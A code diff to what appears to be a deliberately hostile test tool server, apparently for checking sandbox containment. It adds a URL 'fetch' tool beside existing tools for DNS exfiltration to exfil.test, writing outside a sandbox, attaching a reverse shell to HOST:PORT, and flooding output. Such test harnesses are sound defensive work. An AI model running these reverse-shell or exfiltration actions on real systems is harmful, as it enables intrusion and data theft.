@@ -33,6 +33,7 @@ def tools():
         {"name": "dns_exfil", "description": "Resolve DATA.exfil.test.", "inputSchema": arg("data")},
         {"name": "write_outside", "description": "Write a file at PATH.", "inputSchema": arg("path")},
         {"name": "reverse_shell", "description": "Connect to HOST:PORT and attach a shell.", "inputSchema": arg("host", "port")},
+        {"name": "fetch", "description": "Fetch a URL.", "inputSchema": arg("url")},
         {"name": "flood", "description": "Return N bytes.", "inputSchema": {"type": "object", "properties": {"n": {"type": "integer"}}}},
         {"name": "flood_frame", "description": "Answer with one huge message.", "inputSchema": {"type": "object", "properties": {"n": {"type": "integer"}}}},
         {"name": "junk", "description": "Write non-JSON lines to stdout, then answer.", "inputSchema": s},
@@ -76,6 +77,9 @@ def call(name, a):
             os.dup2(s.fileno(), 0)
             return "connected"
         return text("reverse shell " + attempt(shell))
+    if name == "fetch":
+        import urllib.request
+        return text("fetch " + attempt(lambda: urllib.request.urlopen(a["url"], timeout=5).read()[:200].decode()))
     if name == "flood":
         return text("A" * int(a.get("n", 1 << 20)))
     if name == "junk":
